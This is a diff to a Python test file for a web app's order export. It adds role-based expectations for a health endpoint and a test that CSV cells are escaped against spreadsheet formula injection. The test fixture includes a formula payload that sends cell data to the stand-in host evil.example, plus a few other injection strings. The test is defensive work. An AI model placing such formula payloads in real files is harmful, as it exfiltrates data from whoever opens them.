@@ -36,7 +36,9 @@ for who in WHO:
         expected = UPLOAD[target].get(who, VIEW[who])
         CASES.append(("upload", target, who, expected))
     CASES.append(("validate", "", who, VIEW[who]))
-    CASES.append(("health", "", who, VIEW[who]))
+    # The PMR's address and every order's backlog: for the people who run deliveries.
+    health = {"Admin": 200, "Manager": 200, "User": 403, "Viewer": 403}
+    CASES.append(("health", "", who, health.get(who, VIEW[who])))
     sync = {"Admin": 202, "Manager": 202, "User": 403, "Viewer": 403}
     CASES.append(("sync", "", who, sync.get(who, VIEW[who])))
 
@@ -174,3 +176,27 @@ def test_export_zip_content_matches(sim, pmr_event, ai_done_order, client, users
     # The bytes are the processed renditions the PMR got.
     processed = {hashlib.sha256(image.processed.read()).hexdigest() for image in order.images.all()}
     assert {row["sha256"] for row in table} == processed
+
+
+def test_export_csv_cells_never_run_as_spreadsheet_formulas(
+    sim, pmr_event, ai_done_order, client, users
+):
+    order = ai_done_order(1)
+    image = order.images.get()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    image.original_filename = "@SUM(1+1).jpg"
+    image.ai_metadata = {
+        **image.ai_metadata,
+        "caption": {"caption": formula, "alt_text": "-2+3", "keywords": ["+cmd", "plain"]},
+    }
+    image.save(update_fields=["original_filename", "ai_metadata"])
+    client.force_login(users["Manager"])
+    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    (row,) = csv.DictReader(io.StringIO(archive.read("metadata.csv").decode()))
+    assert row["caption"] == "'" + formula
+    assert row["original_filename"] == "'@SUM(1+1).jpg"
+    assert row["alt_text"] == "'-2+3"
+    assert row["keywords"] == "'+cmd; plain"
+    # metadata.json is data, not a spreadsheet: it keeps the text as it is.
+    assert json.loads(archive.read("metadata.json"))["images"][0]["caption"] == formula
